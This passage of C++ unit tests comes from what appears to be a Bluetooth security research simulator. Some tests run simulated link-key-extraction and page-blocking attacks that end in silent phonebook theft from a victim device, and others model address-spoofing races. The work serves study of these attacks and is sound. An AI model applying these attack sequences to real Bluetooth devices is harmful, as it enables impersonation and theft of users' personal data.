  for (int i = 0; i < 5; ++i) sched.schedule_at(static_cast<SimTime>(i), [&] { ++fired; });
  sched.run_all();
  EXPECT_EQ(fired, 5);
  EXPECT_EQ(obs.events_dispatched(), 5u);
  const auto snap = obs.snapshot();
  EXPECT_EQ(snap.counters.at("scheduler.events_dispatched"), 5u);
  EXPECT_GE(snap.gauges.at("scheduler.max_queue_depth"), 1u);
}

TEST(ObserverTest, MetricsOnlyModeRecordsNoTraceEvents) {
  ObsConfig cfg;
  cfg.metrics = true;
  Observer obs(cfg);
  obs.count("lmp.rx", 2);
  obs.instant(1, 0, Layer::kLmp, "lmp_rx");
  EXPECT_EQ(obs.begin_span(1, 0, Layer::kLmp, "pairing"), 0u);
  EXPECT_EQ(obs.recorder().size(), 0u);
  EXPECT_EQ(obs.snapshot().counters.at("lmp.rx"), 2u);
}

// Regression for a data race: set_sink used to swap a raw std::function
// while worker threads were mid-log. Run under TSan this test fails on the
// old code; on any build it asserts no call is lost to a torn sink.
TEST(LoggerTest, SetSinkIsSafeWhileOtherThreadsLog) {
  auto& logger = Logger::instance();
  const LogLevel old_level = logger.level();
  logger.set_level(LogLevel::Info);

  std::atomic<std::uint64_t> delivered{0};
  auto counting_sink = [&delivered](LogLevel, const std::string&, const std::string&) {
    delivered.fetch_add(1, std::memory_order_relaxed);
  };

  constexpr int kLogsPerThread = 500;
  std::atomic<bool> go{false};
  std::vector<std::thread> loggers;
  loggers.reserve(4);
  for (int t = 0; t < 4; ++t) {
    loggers.emplace_back([&go, t] {
      while (!go.load(std::memory_order_acquire)) {}
      for (int i = 0; i < kLogsPerThread; ++i)
        BLAP_INFO("race", "thread %d message %d", t, i);
    });
  }
  std::thread swapper([&] {
    while (!go.load(std::memory_order_acquire)) {}
    for (int i = 0; i < 200; ++i) {
      logger.set_sink(counting_sink);
      logger.set_sink(counting_sink);
    }
  });
  logger.set_sink(counting_sink);
  go.store(true, std::memory_order_release);
  for (auto& th : loggers) th.join();
  swapper.join();

  // Every log call saw *a* valid sink (possibly the stderr default before
  // the first install); with the sink installed before `go`, all arrive.
  EXPECT_EQ(delivered.load(), 4u * kLogsPerThread);
  logger.set_sink({});
  logger.set_level(old_level);
}

}  // namespace
}  // namespace blap::obs
