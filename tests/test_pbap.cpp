// Tests for the PBAP profile — the paper's exfiltration target — and the
// end-to-end "mine sensitive information" attack goal (§III-B).
#include <gtest/gtest.h>

#include "core/link_key_extraction.hpp"
#include "core/page_blocking.hpp"
#include "core/profiles.hpp"

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  return s;
}

TEST(Pbap, AuthenticatedPeerPullsPhonebook) {
  Simulation sim(90);
  Device& client = sim.add_device(spec("laptop", "00:00:00:00:00:01"));
  Device& phone = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  phone.host().pbap().set_phonebook({"N:Mallory TEL:555-1000", "N:Trent TEL:555-2000"});

  std::optional<std::vector<std::string>> entries;
  bool done = false;
  client.host().pull_phonebook(phone.address(),
                               [&](std::optional<std::vector<std::string>> e) {
                                 entries = std::move(e);
                                 done = true;
                               });
  for (int i = 0; i < 400 && !done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(done);
  ASSERT_TRUE(entries.has_value());
  ASSERT_EQ(entries->size(), 2u);
  EXPECT_NE((*entries)[0].find("Mallory"), std::string::npos);
  // The pull triggered authentication + bonding first.
  EXPECT_TRUE(client.host().security().is_bonded(phone.address()));
  EXPECT_GT(phone.host().pbap().serves(), 0);
}

TEST(Pbap, UnauthenticatedChannelIsRefused) {
  // Bypass the host's pairing machinery: connect an ACL and try the PBAP
  // PSM directly — L2CAP's security gate must block it.
  Simulation sim(91);
  Device& client = sim.add_device(spec("laptop", "00:00:00:00:00:01"));
  Device& phone = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  bool connected = false;
  client.host().connect_only(phone.address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  sim.run_for(5 * kSecond);
  ASSERT_TRUE(connected);
  const auto acls = client.host().acls();
  ASSERT_EQ(acls.size(), 1u);

  bool channel_result_known = false;
  bool channel_opened = false;
  client.host().l2cap().connect_channel(acls[0].handle, host::psm_ext::kPbap,
                                        [&](std::optional<host::L2capChannel> ch) {
                                          channel_opened = ch.has_value();
                                          channel_result_known = true;
                                        });
  sim.run_for(2 * kSecond);
  ASSERT_TRUE(channel_result_known);
  EXPECT_FALSE(channel_opened);
  EXPECT_EQ(phone.host().pbap().serves(), 0);
}

TEST(Pbap, ExtractionAttackEndsInPhonebookTheft) {
  // The complete kill chain of §III-B/§IV: extract C's key for M, then
  // impersonate C and pull M's phone book — the "sensitive data" leaves M
  // without any pairing UI ever appearing.
  Simulation sim(92);
  DeviceSpec a = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  DeviceSpec c = table1_profiles()[0].to_spec("accessory", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                              ClassOfDevice(ClassOfDevice::kHandsFree));
  DeviceSpec m = table2_profiles()[5].to_spec("victim", *BdAddr::parse("48:90:12:34:56:78"));
  Device& attacker = sim.add_device(a);
  Device& accessory = sim.add_device(c);
  Device& target = sim.add_device(m);
  target.host().pbap().set_phonebook({"N:TopSecret TEL:555-0001"});

  LinkKeyExtractionOptions options;  // defaults include impersonation
  const auto report = LinkKeyExtractionAttack::run(sim, attacker, accessory, target, options);
  ASSERT_TRUE(report.impersonation_succeeded);

  // The attacker is still impersonating C with a live authenticated link:
  // now pull the phone book. (M's only popup so far was the legitimate
  // precondition pairing with the real C.)
  const std::size_t popups_before = target.host().popup_history().size();
  std::optional<std::vector<std::string>> loot;
  bool done = false;
  attacker.host().pull_phonebook(target.address(),
                                 [&](std::optional<std::vector<std::string>> e) {
                                   loot = std::move(e);
                                   done = true;
                                 });
  for (int i = 0; i < 200 && !done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(done);
  ASSERT_TRUE(loot.has_value());
  ASSERT_EQ(loot->size(), 1u);
  EXPECT_NE((*loot)[0].find("TopSecret"), std::string::npos);
  // The theft itself was silent — no new popup on the victim.
  EXPECT_EQ(target.host().popup_history().size(), popups_before);
}

TEST(Pbap, PageBlockingAttackEndsInPhonebookTheft) {
  // Same end state via the second attack: the MITM bond from page blocking
  // grants PBAP access on a later silent reconnect.
  Simulation sim(93);
  DeviceSpec a = attacker_profile().to_spec("attacker", *BdAddr::parse("aa:aa:aa:00:00:01"));
  DeviceSpec c = accessory_profile().to_spec("headset", *BdAddr::parse("00:1b:7d:da:71:0a"),
                                             ClassOfDevice(ClassOfDevice::kHandsFree));
  c.host.io_capability = hci::IoCapability::kNoInputNoOutput;
  DeviceSpec m = table2_profiles()[5].to_spec("victim", *BdAddr::parse("48:90:12:34:56:78"));
  Device& attacker = sim.add_device(a);
  Device& accessory = sim.add_device(c);
  Device& target = sim.add_device(m);
  target.host().pbap().set_phonebook({"N:Payroll TEL:555-0002"});

  const auto report = PageBlockingAttack::run(sim, attacker, accessory, target, {});
  ASSERT_TRUE(report.mitm_established);
  attacker.host().disconnect(target.address());
  sim.run_for(3 * kSecond);

  std::optional<std::vector<std::string>> loot;
  bool done = false;
  attacker.host().pull_phonebook(target.address(),
                                 [&](std::optional<std::vector<std::string>> e) {
                                   loot = std::move(e);
                                   done = true;
                                 });
  for (int i = 0; i < 200 && !done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(done);
  ASSERT_TRUE(loot.has_value());
  EXPECT_NE((*loot)[0].find("Payroll"), std::string::npos);
}

TEST(Pbap, SdpAdvertisesPbapService) {
  Simulation sim(94);
  Device& client = sim.add_device(spec("laptop", "00:00:00:00:00:01"));
  Device& phone = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  std::optional<host::SdpClient::Result> result;
  client.host().discover_services(phone.address(), uuid16::kPbap,
                                  [&](std::optional<host::SdpClient::Result> r) { result = r; });
  sim.run_for(10 * kSecond);
  ASSERT_TRUE(result.has_value());
  EXPECT_TRUE(result->found);
}

}  // namespace
}  // namespace blap::core
