// Unit tests for Bluetooth service UUID handling.
#include <gtest/gtest.h>

#include "common/uuid.hpp"

namespace blap {
namespace {

TEST(Uuid, ExpandsUuid16AgainstBaseUuid) {
  // The paper's fake bonding entry lists the PAN UUIDs in expanded form:
  // 00001115-0000-1000-8000-00805f9b34fb and 00001116-....
  EXPECT_EQ(Uuid::from_uuid16(uuid16::kPanu).to_string(),
            "00001115-0000-1000-8000-00805f9b34fb");
  EXPECT_EQ(Uuid::from_uuid16(uuid16::kNap).to_string(),
            "00001116-0000-1000-8000-00805f9b34fb");
}

TEST(Uuid, ParsesCanonicalForm) {
  auto parsed = Uuid::parse("00001115-0000-1000-8000-00805f9b34fb");
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(*parsed, Uuid::from_uuid16(0x1115));
}

TEST(Uuid, RejectsMalformed) {
  EXPECT_FALSE(Uuid::parse("").has_value());
  EXPECT_FALSE(Uuid::parse("00001115").has_value());
  EXPECT_FALSE(Uuid::parse("00001115-0000-1000-8000-00805f9b34").has_value());
  EXPECT_FALSE(Uuid::parse("0000111g-0000-1000-8000-00805f9b34fb").has_value());
}

TEST(Uuid, As16RecoversShortForm) {
  EXPECT_EQ(Uuid::from_uuid16(0x110B).as_uuid16(), 0x110B);
}

TEST(Uuid, As16RejectsNonBaseExpansion) {
  auto custom = Uuid::parse("00001115-0000-1000-8000-00805f9b34fc");  // last byte off
  ASSERT_TRUE(custom.has_value());
  EXPECT_FALSE(custom->as_uuid16().has_value());
}

TEST(Uuid, RoundTripsThroughString) {
  const Uuid original = Uuid::from_uuid16(uuid16::kHandsFree);
  auto reparsed = Uuid::parse(original.to_string());
  ASSERT_TRUE(reparsed.has_value());
  EXPECT_EQ(*reparsed, original);
}

TEST(Uuid, OrderingDistinguishesProfiles) {
  EXPECT_NE(Uuid::from_uuid16(uuid16::kPanu), Uuid::from_uuid16(uuid16::kNap));
  EXPECT_LT(Uuid::from_uuid16(uuid16::kPanu), Uuid::from_uuid16(uuid16::kNap));
}

}  // namespace
}  // namespace blap
