// Tests for the population-scale radio medium: BD_ADDR-indexed page
// resolution, scanner-registry inquiry, batched response delivery, and
// generation-checked endpoint liveness. The contract under test throughout:
// the index is an *optimisation* — candidate sets, Rng draw order, winner
// selection and delivery timestamps must be exactly what the old linear
// scan over the attachment vector produced.
#include <gtest/gtest.h>

#include <memory>
#include <utility>
#include <vector>

#include "common/state_io.hpp"
#include "radio/radio_medium.hpp"

namespace blap::radio {
namespace {

/// Scriptable endpoint; mirrors test_radio.cpp's FakeEndpoint plus a draw
/// log so index-vs-linear equivalence can compare individual Rng samples.
class FakeEndpoint : public RadioEndpoint {
 public:
  FakeEndpoint(BdAddr addr, SimTime scan_interval)
      : addr_(addr), scan_interval_(scan_interval) {}

  BdAddr radio_address() const override { return addr_; }
  ClassOfDevice radio_class_of_device() const override { return cod_; }
  std::string radio_name() const override { return "fake"; }
  bool inquiry_scan_enabled() const override { return inquiry_scan_; }
  bool page_scan_enabled() const override { return page_scan_; }
  SimTime sample_page_response_latency(Rng& rng) override {
    ++latency_samples;
    if (sample_order != nullptr) sample_order->push_back(this);
    const SimTime latency = fixed_latency_ ? *fixed_latency_ : 1 + rng.uniform(scan_interval_);
    sampled_values.push_back(latency);
    return latency;
  }
  void on_link_established(LinkId link, const BdAddr& peer, bool initiator) override {
    links.push_back({link, peer, initiator});
  }
  void on_link_closed(LinkId link, std::uint8_t reason) override {
    closed.push_back({link, reason});
  }
  void on_air_frame(LinkId link, const Bytes& frame) override {
    frames.push_back({link, frame});
  }

  BdAddr addr_;
  ClassOfDevice cod_{0x240404};
  SimTime scan_interval_;
  std::optional<SimTime> fixed_latency_;
  bool inquiry_scan_ = true;
  bool page_scan_ = true;
  int latency_samples = 0;
  std::vector<SimTime> sampled_values;
  std::vector<const FakeEndpoint*>* sample_order = nullptr;

  struct LinkEvent {
    LinkId id;
    BdAddr peer;
    bool initiator;
  };
  std::vector<LinkEvent> links;
  std::vector<std::pair<LinkId, std::uint8_t>> closed;
  std::vector<std::pair<LinkId, Bytes>> frames;
};

BdAddr filler_address(std::uint32_t i) {
  std::array<std::uint8_t, 6> bytes = {0xc0, 0xfe,
                                       static_cast<std::uint8_t>((i >> 24) & 0xFF),
                                       static_cast<std::uint8_t>((i >> 16) & 0xFF),
                                       static_cast<std::uint8_t>((i >> 8) & 0xFF),
                                       static_cast<std::uint8_t>(i & 0xFF)};
  return BdAddr(bytes);
}

class RadioScaleTest : public ::testing::Test {
 protected:
  RadioScaleTest() : medium(sched, Rng(5)) {}

  /// Attach `count` page+inquiry-scanning endpoints with unique addresses.
  void attach_fillers(std::size_t count) {
    for (std::size_t i = 0; i < count; ++i) {
      fillers.push_back(std::make_unique<FakeEndpoint>(
          filler_address(static_cast<std::uint32_t>(i)), kSecond));
      medium.attach(fillers.back().get());
    }
  }

  Scheduler sched;
  RadioMedium medium;
  std::vector<std::unique_ptr<FakeEndpoint>> fillers;
};

// The spoofing race from test_radio.cpp, but buried in a 2000-endpoint
// crowd: only the two owners of the paged address may be sampled, and the
// fixed latencies still pick the winner deterministically.
TEST_F(RadioScaleTest, SpoofedDuplicatesResolveInsideLargeCrowd) {
  attach_fillers(1000);
  const BdAddr shared = *BdAddr::parse("00:00:00:00:00:02");
  FakeEndpoint pager(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint real(shared, kSecond);
  FakeEndpoint spoof(shared, kSecond);
  real.fixed_latency_ = 800;
  spoof.fixed_latency_ = 300;
  medium.attach(&pager);
  medium.attach(&real);
  attach_fillers(1000);  // spoof attaches far from the real device
  medium.attach(&spoof);

  std::optional<LinkId> result;
  medium.page(&pager, shared, 5 * kSecond, [&](std::optional<LinkId> id) { result = id; });
  sched.run_all();

  ASSERT_TRUE(result.has_value());
  EXPECT_EQ(real.links.size(), 0u);
  ASSERT_EQ(spoof.links.size(), 1u);
  EXPECT_EQ(real.latency_samples, 1);  // both owners raced...
  EXPECT_EQ(spoof.latency_samples, 1);
  for (const auto& filler : fillers)  // ...and nobody else was touched
    ASSERT_EQ(filler->latency_samples, 0);
  EXPECT_EQ(medium.link_between(pager.addr_, shared), result);
}

// link_between must return the lowest live link id when a spoofing scenario
// stacks several links over one address pair.
TEST_F(RadioScaleTest, LinkBetweenPicksLowestIdAmongDuplicates) {
  attach_fillers(500);
  const BdAddr shared = *BdAddr::parse("00:00:00:00:00:02");
  FakeEndpoint pager(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint real(shared, kSecond);
  FakeEndpoint spoof(shared, kSecond);
  real.fixed_latency_ = 800;
  spoof.fixed_latency_ = 300;
  medium.attach(&pager);
  medium.attach(&real);
  medium.attach(&spoof);

  std::optional<LinkId> first, second;
  medium.page(&pager, shared, 5 * kSecond, [&](std::optional<LinkId> id) { first = id; });
  medium.page(&pager, shared, 5 * kSecond, [&](std::optional<LinkId> id) { second = id; });
  sched.run_all();

  ASSERT_TRUE(first.has_value() && second.has_value());
  ASSERT_LT(*first, *second);
  EXPECT_EQ(medium.link_between(pager.addr_, shared), first);
  medium.close_link(*first, &pager, close_reason::kRemoteUserTerminated);
  EXPECT_EQ(medium.link_between(pager.addr_, shared), second);
  EXPECT_EQ(medium.link_between(pager.addr_, filler_address(3)), std::nullopt);
}

// The index enumerates candidates in attach order — the order the linear
// scan drew latencies from the shared Rng stream in. This is what keeps
// every seeded scenario's Rng consumption byte-identical.
TEST_F(RadioScaleTest, CandidatesSampledInAttachOrder) {
  const BdAddr shared = *BdAddr::parse("00:00:00:00:00:02");
  FakeEndpoint pager(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint x(shared, kSecond), y(shared, kSecond), z(shared, kSecond);
  std::vector<const FakeEndpoint*> order;
  x.sample_order = y.sample_order = z.sample_order = &order;

  medium.attach(&pager);
  attach_fillers(50);
  medium.attach(&y);
  attach_fillers(50);
  medium.attach(&z);
  attach_fillers(50);
  medium.attach(&x);

  medium.page(&pager, shared, 5 * kSecond, nullptr);
  sched.run_all();
  ASSERT_EQ(order.size(), 3u);
  EXPECT_EQ(order[0], &y);
  EXPECT_EQ(order[1], &z);
  EXPECT_EQ(order[2], &x);
}

// Full equivalence with the pre-index algorithm: replay the linear scan
// over the attachment vector with an identically-seeded Rng and check the
// medium drew the same latencies and picked the same winner.
TEST_F(RadioScaleTest, IndexedPageMatchesLinearReferenceDraws) {
  const std::uint64_t seed = 77;
  medium.set_rng(Rng(seed));
  const BdAddr shared = *BdAddr::parse("00:00:00:00:00:02");
  FakeEndpoint pager(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  medium.attach(&pager);

  // Attachment vector in attach order, candidates scattered through it.
  std::vector<FakeEndpoint*> attach_order{&pager};
  std::vector<FakeEndpoint*> candidates;
  std::vector<std::unique_ptr<FakeEndpoint>> crowd;
  for (std::uint32_t i = 0; i < 300; ++i) {
    const bool is_candidate = i == 3 || i == 59 || i == 150 || i == 299;
    crowd.push_back(std::make_unique<FakeEndpoint>(
        is_candidate ? shared : filler_address(i), kSecond + 13 * i));
    medium.attach(crowd.back().get());
    attach_order.push_back(crowd.back().get());
    if (is_candidate) candidates.push_back(crowd.back().get());
  }

  medium.page(&pager, shared, 60 * kSecond, nullptr);
  sched.run_all();

  // Linear reference: same scan, same draws, same strict-< argmin.
  Rng reference(seed);
  FakeEndpoint* expected_winner = nullptr;
  SimTime best = 0;
  std::vector<SimTime> expected_draws;
  for (FakeEndpoint* ep : attach_order) {
    if (ep == &pager || !ep->page_scan_ || !(ep->addr_ == shared)) continue;
    const SimTime latency = 1 + reference.uniform(ep->scan_interval_);
    expected_draws.push_back(latency);
    if (expected_winner == nullptr || latency < best) {
      expected_winner = ep;
      best = latency;
    }
  }

  ASSERT_EQ(candidates.size(), 4u);
  std::vector<SimTime> actual_draws;
  for (FakeEndpoint* c : candidates) {
    ASSERT_EQ(c->sampled_values.size(), 1u);
    actual_draws.push_back(c->sampled_values[0]);
  }
  EXPECT_EQ(actual_draws, expected_draws);
  ASSERT_NE(expected_winner, nullptr);
  ASSERT_EQ(expected_winner->links.size(), 1u);
  for (FakeEndpoint* c : candidates)
    if (c != expected_winner) EXPECT_TRUE(c->links.empty());
}

// page() and start_inquiry() re-read the live scan bits on the candidate
// set, so flipping a bit without notify_endpoint_changed() is tolerated —
// the indexed bits are a superset filter, never the final answer.
TEST_F(RadioScaleTest, LiveScanBitsRecheckedWithoutNotify) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  medium.attach(&a);
  medium.attach(&b);
  b.page_scan_ = false;     // flipped post-attach, no notify
  b.inquiry_scan_ = false;

  bool connected = true;
  medium.page(&a, b.addr_, kSecond, [&](std::optional<LinkId> id) { connected = id.has_value(); });
  std::size_t responses = 0;
  medium.start_inquiry(&a, 2 * kSecond, [&](const InquiryResponse&) { ++responses; },
                       nullptr);
  sched.run_all();
  EXPECT_FALSE(connected);
  EXPECT_EQ(b.latency_samples, 0);
  EXPECT_EQ(responses, 0u);
}

// Address changes DO require the notify: it re-keys both the BD_ADDR index
// and the address-pair index of live links.
TEST_F(RadioScaleTest, NotifyRekeysAddressIndexAndLiveLinks) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  medium.attach(&a);
  medium.attach(&b);
  const BdAddr old_addr = b.addr_;
  std::optional<LinkId> link;
  medium.page(&a, b.addr_, 5 * kSecond, [&](std::optional<LinkId> id) { link = id; });
  sched.run_all();
  ASSERT_TRUE(link.has_value());

  b.addr_ = *BdAddr::parse("00:00:00:00:00:99");  // spoof mid-link
  medium.notify_endpoint_changed(&b);

  EXPECT_EQ(medium.link_between(a.addr_, b.addr_), link);
  EXPECT_EQ(medium.link_between(a.addr_, old_addr), std::nullopt);

  // New pages resolve against the new identity, not the stale key.
  bool found_new = false, found_old = true;
  medium.page(&a, b.addr_, 5 * kSecond,
              [&](std::optional<LinkId> id) { found_new = id.has_value(); });
  medium.page(&a, old_addr, kSecond,
              [&](std::optional<LinkId> id) { found_old = id.has_value(); });
  sched.run_all();
  EXPECT_TRUE(found_new);
  EXPECT_FALSE(found_old);
}

// Batched responses were captured by value at inquiry start — exactly like
// the per-response events of the unbatched path — so a responder detaching
// mid-window does not cancel its pending response, and the completion
// callback still fires at the end of the window.
TEST_F(RadioScaleTest, DetachMidInquiryStillDeliversPendingBatchedResponses) {
  medium.set_inquiry_batch_threshold(1);  // force the batch path
  FakeEndpoint requester(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  medium.attach(&requester);
  attach_fillers(24);

  std::vector<std::pair<SimTime, BdAddr>> seen;
  bool complete = false;
  medium.start_inquiry(&requester, 2 * kSecond,
                       [&](const InquiryResponse& r) { seen.emplace_back(sched.now(), r.address); },
                       [&] { complete = true; });
  // Latencies are >= 1, so a time-0 event detaches while every batched
  // response is still pending.
  FakeEndpoint* doomed = fillers[7].get();
  sched.schedule_in(0, [&] { medium.detach(doomed); });
  sched.run_all();

  EXPECT_EQ(seen.size(), 24u);
  EXPECT_TRUE(complete);
  bool doomed_heard = false;
  for (const auto& [when, addr] : seen)
    if (addr == doomed->addr_) doomed_heard = true;
  EXPECT_TRUE(doomed_heard);
  EXPECT_EQ(medium.endpoint_count(), 24u);
}

// The batch cursor must replay the exact delivery schedule the individual
// events would have produced: same timestamps, same order within each
// same-instant group, same Rng consumption afterwards.
TEST_F(RadioScaleTest, BatchedAndUnbatchedInquiriesDeliverIdentically) {
  struct Run {
    std::vector<std::pair<SimTime, BdAddr>> seen;
    SimTime completed_at = 0;
    SimTime follow_up_draw = 0;
  };
  auto run_with_threshold = [](std::size_t threshold) {
    Run run;
    Scheduler sched;
    RadioMedium medium(sched, Rng(11));
    medium.set_inquiry_batch_threshold(threshold);
    FakeEndpoint requester(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
    medium.attach(&requester);
    std::vector<std::unique_ptr<FakeEndpoint>> crowd;
    for (std::uint32_t i = 0; i < 40; ++i) {
      crowd.push_back(std::make_unique<FakeEndpoint>(filler_address(i), kSecond));
      medium.attach(crowd.back().get());
    }
    // A short window concentrates responses into shared instants, which is
    // the case the cursor's same-instant grouping has to get right.
    medium.start_inquiry(&requester, 20,
                         [&](const InquiryResponse& r) {
                           run.seen.emplace_back(sched.now(), r.address);
                         },
                         [&] { run.completed_at = sched.now(); });
    sched.run_all();
    // The medium Rng must land in the same state either way: one more page
    // consumes the next draw, observable as the sampled latency.
    medium.page(&requester, crowd[0]->addr_, 5 * kSecond, nullptr);
    sched.run_all();
    run.follow_up_draw = crowd[0]->sampled_values.at(0);
    return run;
  };

  const Run batched = run_with_threshold(1);
  const Run unbatched = run_with_threshold(1'000'000);
  ASSERT_EQ(batched.seen.size(), 40u);
  EXPECT_EQ(batched.seen, unbatched.seen);
  EXPECT_EQ(batched.completed_at, unbatched.completed_at);
  EXPECT_EQ(batched.follow_up_draw, unbatched.follow_up_draw);
}

// Generation-checked liveness is strictly stronger than the pointer scan it
// replaced: an endpoint that detaches and re-attaches while a page train is
// in flight is a *new* attachment (new generation), so the old page must
// not come up against it. ABA on the raw pointer cannot resurrect the link.
TEST_F(RadioScaleTest, ReattachedEndpointDoesNotResurrectPendingLink) {
  FakeEndpoint a(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint b(*BdAddr::parse("00:00:00:00:00:02"), kSecond);
  b.fixed_latency_ = 500;
  medium.attach(&a);
  medium.attach(&b);

  std::optional<LinkId> result = LinkId{99};
  bool called = false;
  medium.page(&a, b.addr_, 5 * kSecond, [&](std::optional<LinkId> id) {
    result = id;
    called = true;
  });
  sched.schedule_in(100, [&] {
    medium.detach(&b);
    medium.attach(&b);  // same pointer, new generation
  });
  sched.run_all();

  EXPECT_TRUE(called);
  EXPECT_FALSE(result.has_value());
  EXPECT_TRUE(b.links.empty());

  // The re-attached endpoint is fully live for fresh pages.
  bool reconnected = false;
  medium.page(&a, b.addr_, 5 * kSecond,
              [&](std::optional<LinkId> id) { reconnected = id.has_value(); });
  sched.run_all();
  EXPECT_TRUE(reconnected);
}

// Only inquiry-scanning endpoints respond — and the scanner registry gives
// the same answer as walking all 3000 attachments would.
TEST_F(RadioScaleTest, InquiryHearsOnlyScannersInLargeCrowd) {
  FakeEndpoint requester(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  medium.attach(&requester);
  attach_fillers(3000);
  std::vector<FakeEndpoint*> quiet;
  for (std::size_t i = 0; i < fillers.size(); ++i)
    if (i % 100 != 0) {  // 30 of 3000 keep scanning
      fillers[i]->inquiry_scan_ = false;
      quiet.push_back(fillers[i].get());
    }
  // Scan bits changed after attach: route through the notify, as the
  // Controller's HCI write path does.
  for (FakeEndpoint* ep : quiet) medium.notify_endpoint_changed(ep);

  std::size_t responses = 0;
  bool complete = false;
  medium.start_inquiry(&requester, 2 * kSecond,
                       [&](const InquiryResponse&) { ++responses; }, [&] { complete = true; });
  sched.run_all();
  EXPECT_EQ(responses, 30u);
  EXPECT_TRUE(complete);
}

// Snapshot round-trip through the index: restoring onto a fresh medium and
// re-serialising must reproduce the exact bytes, and the restored index
// must answer link_between / peer_of / new pages correctly.
TEST_F(RadioScaleTest, SaveLoadRoundTripsThroughTheIndex) {
  const BdAddr shared = *BdAddr::parse("00:00:00:00:00:02");
  FakeEndpoint pager(*BdAddr::parse("00:00:00:00:00:01"), kSecond);
  FakeEndpoint real(shared, kSecond);
  FakeEndpoint spoof(shared, kSecond);
  real.fixed_latency_ = 800;
  spoof.fixed_latency_ = 300;
  medium.attach(&pager);
  medium.attach(&real);
  medium.attach(&spoof);
  std::optional<LinkId> link;
  medium.page(&pager, shared, 5 * kSecond, [&](std::optional<LinkId> id) { link = id; });
  sched.run_all();
  ASSERT_TRUE(link.has_value());

  const std::vector<RadioEndpoint*> roster{&pager, &real, &spoof};
  state::StateWriter w;
  ASSERT_TRUE(medium.save_state(w, roster));
  const std::vector<std::uint8_t> bytes = w.take();

  Scheduler sched2;
  RadioMedium medium2(sched2, Rng(999));  // overwritten by the restore
  state::StateReader r(BytesView(bytes.data(), bytes.size()));
  medium2.load_state(r, roster, state::RestoreMode::kRewind);
  ASSERT_TRUE(r.ok()) << r.error();

  state::StateWriter w2;
  ASSERT_TRUE(medium2.save_state(w2, roster));
  EXPECT_EQ(w2.data(), bytes);

  EXPECT_EQ(medium2.link_between(pager.addr_, shared), link);
  EXPECT_EQ(medium2.peer_of(*link, &pager), &spoof);
  bool connected = false;
  medium2.page(&pager, shared, 5 * kSecond,
               [&](std::optional<LinkId> id) { connected = id.has_value(); });
  sched2.run_all();
  EXPECT_TRUE(connected);
}

}  // namespace
}  // namespace blap::radio
