// Tests for the legacy authentication/key-generation functions E1/E21/E22/E3.
#include <gtest/gtest.h>

#include "common/bytes.hpp"
#include "crypto/e1.hpp"

namespace blap::crypto {
namespace {

const BdAddr kAddrC = *BdAddr::parse("00:1b:7d:da:71:0a");
const BdAddr kAddrM = *BdAddr::parse("48:90:12:34:56:78");

LinkKey key_of(std::uint8_t fill) {
  LinkKey k{};
  k.fill(fill);
  return k;
}

Rand128 rand_of(std::uint8_t fill) {
  Rand128 r{};
  r.fill(fill);
  return r;
}

TEST(E1, VerifierAndClaimantAgree) {
  // The whole point of LMP authentication: both sides with the same link key
  // and the same challenge compute the same SRES.
  const LinkKey key = key_of(0x71);
  const Rand128 challenge = rand_of(0x2a);
  const E1Output verifier = e1(key, challenge, kAddrC);
  const E1Output claimant = e1(key, challenge, kAddrC);
  EXPECT_EQ(verifier.sres, claimant.sres);
  EXPECT_EQ(verifier.aco, claimant.aco);
}

TEST(E1, WrongKeyFailsChallenge) {
  const Rand128 challenge = rand_of(0x2a);
  const E1Output good = e1(key_of(0x71), challenge, kAddrC);
  const E1Output bad = e1(key_of(0x72), challenge, kAddrC);
  EXPECT_NE(good.sres, bad.sres);
}

TEST(E1, ChallengeFreshness) {
  const LinkKey key = key_of(0x71);
  EXPECT_NE(e1(key, rand_of(0x01), kAddrC).sres, e1(key, rand_of(0x02), kAddrC).sres);
}

TEST(E1, AddressBinding) {
  // SRES binds the claimant's BD_ADDR — an impersonator spoofing a different
  // address computes a different response.
  const LinkKey key = key_of(0x71);
  const Rand128 challenge = rand_of(0x2a);
  EXPECT_NE(e1(key, challenge, kAddrC).sres, e1(key, challenge, kAddrM).sres);
}

TEST(E1, AcoDependsOnChallenge) {
  const LinkKey key = key_of(0x71);
  EXPECT_NE(e1(key, rand_of(0x01), kAddrC).aco, e1(key, rand_of(0x02), kAddrC).aco);
}

TEST(E21, DistinctAddressesDistinctKeys) {
  const Rand128 rand = rand_of(0x11);
  EXPECT_NE(e21(rand, kAddrC), e21(rand, kAddrM));
}

TEST(E21, DistinctRandsDistinctKeys) {
  EXPECT_NE(e21(rand_of(0x11), kAddrC), e21(rand_of(0x12), kAddrC));
}

TEST(CombinationKey, XorOfContributions) {
  const LinkKey a = key_of(0xF0);
  const LinkKey b = key_of(0x0F);
  const LinkKey combo = combination_key(a, b);
  for (auto byte : combo) EXPECT_EQ(byte, 0xFF);
  // Symmetric: both devices derive the same combination key.
  EXPECT_EQ(combination_key(a, b), combination_key(b, a));
}

TEST(E22, PinAndAddressBound) {
  const Rand128 rand = rand_of(0x33);
  const Bytes pin1 = {'1', '2', '3', '4'};
  const Bytes pin2 = {'1', '2', '3', '5'};
